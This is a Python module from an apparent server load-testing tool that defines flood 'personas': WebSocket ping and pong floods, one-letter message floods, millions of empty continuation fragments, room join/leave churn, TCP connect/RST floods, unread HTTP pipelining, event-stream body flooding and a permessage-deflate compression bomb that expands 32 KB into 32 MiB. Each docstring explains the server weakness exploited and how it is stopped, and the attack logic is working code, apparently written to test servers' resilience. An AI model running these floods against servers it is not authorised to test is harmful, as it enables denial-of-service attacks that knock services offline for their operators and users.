"""Floods: small things that each cost the server more than the sender, as fast as it takes them."""

import zlib
from functools import cache
from typing import Final

from loadgen import wire
from loadgen.client import Attacker, Cohort, Needs, Threat
from loadgen.frames import BINARY, FIN, MORE, PING, PONG, RSV1, TEXT, frame
from loadgen.personas import persona
from loadgen.personas._flood import BLOCK_BYTES, Flooder, FrameFlooder, fill
from loadgen.personas._websocket import join, leave, publish

# The smallest cost the sender least; the largest pass a limit on frames at a time, and come back at full size.
_PING_FLOOD_BLOCKS: Final = (fill(frame(FIN | PING)), fill(frame(FIN | PING, bytes(125))))


@persona
class PingFlood(FrameFlooder):
    """WebSocket that sends pings at full speed, half of them empty and half as large as allowed.

    Each must be answered (RFC 6455 section 5.5.2), so a server that queues its answers grows without bound
    (CVE-2019-9512 is the same in HTTP/2), and one that counts only messages sees nothing at all.
    """

    __slots__ = ()

    name = "ping-flood"

    def block(self) -> bytes:
        """Pings."""
        return _PING_FLOOD_BLOCKS[self.number % len(_PING_FLOOD_BLOCKS)]


_PONG_FLOOD_BLOCKS: Final = (fill(frame(FIN | PONG)), fill(frame(FIN | PONG, bytes(125))))


@persona
class PongFlood(FrameFlooder):
    """WebSocket that sends unasked pongs at full speed, half of them empty and half as large as allowed.

    Legal as a heartbeat (RFC 6455 section 5.5.3) and ignored by nearly every library, after it has parsed each one.
    """

    __slots__ = ()

    name = "pong-flood"

    def block(self) -> bytes:
        """Pongs."""
        return _PONG_FLOOD_BLOCKS[self.number % len(_PONG_FLOOD_BLOCKS)]


#: They talk in a few rooms of their own, where nobody listens: what is attacked is the server's time for each message,
#: not the victims' screens, which at this rate would be the generator's own work.
_TINY_FRAMES_BLOCKS: Final = tuple(fill(publish(f"tiny-{room}", 1, "x")) for room in range(16))


@persona
class TinyFrames(FrameFlooder):
    """WebSocket that publishes one-letter messages at full speed.

    All of it is valid, and a few dozen bytes each buy a parse, a commit and an answer. What stops it is a limit on how
    often one user may publish, and an end for who goes on regardless of `retry_after`.
    """

    __slots__ = ()

    name = "tiny-frames"
    needs = Needs.CHAT

    def block(self) -> bytes:
        """Messages."""
        return _TINY_FRAMES_BLOCKS[self.number % len(_TINY_FRAMES_BLOCKS)]


_CONTINUATIONS: Final = fill(frame(MORE))


@persona
class EmptyFragments(FrameFlooder):
    """WebSocket that begins a message and continues it with millions of empty frames.

    The message's size stays 0, so limits on bytes never apply: trio-websocket 0.12 kept 200,001 fragments with a limit
    of 1 KiB. Six bytes buy a list entry and a parser's turn each.
    """

    __slots__ = ()

    name = "empty-fragments"

    def on_open(self, head: wire.Head) -> None:
        """Begin the message."""
        self.send(frame(TEXT))
        super().on_open(head)

    def block(self) -> bytes:
        """Empty continuations."""
        return _CONTINUATIONS


@persona
class RoomChurn(FrameFlooder):
    """WebSocket that joins a room where people are and leaves it again, as fast as it can.

    A server that tells all members of each coming and going multiplies every one by the room's size; presence has to be
    gathered and told now and then. Each join also asks for the room's latest messages: 40 bytes for 10 KB.
    """

    __slots__ = ("_block",)

    name = "room-churn"
    needs = Needs.CHAT

    def __init__(self, cohort: Cohort, index: int) -> None:
        super().__init__(cohort, index)
        self._block = fill(join(1, self.room) + leave(2, self.room))

    def block(self) -> bytes:
        """In and out."""
        return self._block


@persona
class ConnectFlood(Attacker):
    """Connects and closes, as fast as it can; every second one with RST.

    Port scanners, health checks gone wild and connect floods look like this. A server that accepts one connection a
    pass of its loop, or starts a thread before it has read a byte, does nothing else any more. Both ways of closing are
    played because accept() may fail with ECONNABORTED for one and never for the other.
    """

    __slots__ = ("_resets",)

    name = "connect-flood"
    silent = True
    threat = Threat.GREEDY

    def __init__(self, cohort: Cohort, index: int) -> None:
        super().__init__(cohort, index)
        self._resets = cohort.made % 2 == 0

    def opening(self) -> bytes:
        """Say nothing."""
        return b""

    def on_connected(self) -> None:
        """Go, and come again."""
        super().on_connected()
        if self._resets:
            self.abort(return_in=0.0)
        else:
            self.leave(return_in=0.0)


@persona
class Pipeline(Flooder):
    """Sends thousands of requests in one go and never reads an answer.

    Pipelining is legal (RFC 9112 section 9.3.2). A server that parses ahead queues requests, one that answers ahead
    queues answers, and both do it in memory: a block of 16 KiB asks for several megabytes.
    """

    __slots__ = ()

    name = "pipeline"

    def opening(self) -> bytes:
        """Begin with the first request."""
        return wire.request("GET", self.cohort.place.path, self.cohort.place.host)

    def on_connected(self) -> None:
        """Turn a deaf ear."""
        self.stop_reading()
        super().on_connected()

    def block(self) -> bytes:
        """Return as many requests as fit."""
        return fill(self.opening())


_BLOCK: Final = b"x" * BLOCK_BYTES


@persona
class SseFlood(Flooder):
    """Opens an event stream and sends bytes behind the request, as fast as they are taken.

    A client of an event stream has nothing to send after its request. A server that reads on either gathers these bytes
    as the next request or wakes for every block of them; a server that stops reading does not see the client's FIN.
    """

    __slots__ = ()

    name = "sse-flood"
    needs = Needs.CHAT
    usual_clients = 2500  # each fills up to some hundred KB of kernel memory, of which a machine has a few GB

    def opening(self) -> bytes:
        """Ask for the stream."""
        place = self.cohort.place
        path = place.stream_path.format(room=self.room)
        return wire.request("GET", path, place.host, "Accept: text/event-stream")

    def on_data(self, data: bytes) -> None:
        """Note an answer; go on unless it is a refusal."""
        super().on_data(data)
        if self.answered < 400:
            self.answered = 0

    def block(self) -> bytes:
        """Return bytes that are no request."""
        return _BLOCK


#: What a bomb grows to: 1,000 times what is sent, the most that DEFLATE can do.
BOMB_BYTES: Final = 32 * 1024 * 1024
_PIECE_BYTES: Final = 1024 * 1024

_EXTENSION: Final = "permessage-deflate"


@persona
class CompressBomb(FrameFlooder):
    """WebSocket that asks for compression and sends 32 KB that unpack to 32 MiB, again and again.

    A limit on a message's size that is applied to what came over the wire, or only when all is unpacked, is none. Where
    the extension is not accepted, it sends one compressed frame all the same: a reserved bit, which must be refused.
    """

    __slots__ = ()

    name = "compress-bomb"
    upgrade_fields = (f"Sec-WebSocket-Extensions: {_EXTENSION}",)

    def on_open(self, head: wire.Head) -> None:
        """See whether the server unpacks."""
        if _EXTENSION in head.fields.get("sec-websocket-extensions", ""):
            self.cohort.answers[f"{_EXTENSION} accepted"] += 1
            super().on_open(head)
        else:
            self.cohort.answers[f"{_EXTENSION} not accepted"] += 1
            self.send(frame(FIN | RSV1 | BINARY, b"\0"))

    def block(self) -> bytes:
        """Return a bomb."""
        return bomb()


@cache
def bomb() -> bytes:
    """A binary message of zeros, compressed as RFC 7692 has it.

    Each piece is flushed in full, so that it refers to nothing before it, and the same piece can be repeated.
    """
    packer = zlib.compressobj(level=9, wbits=-zlib.MAX_WBITS)
    piece = packer.compress(bytes(_PIECE_BYTES)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = piece * (BOMB_BYTES // _PIECE_BYTES)
    return frame(FIN | RSV1 | BINARY, packed.removesuffix(b"\0\0\xff\xff"))
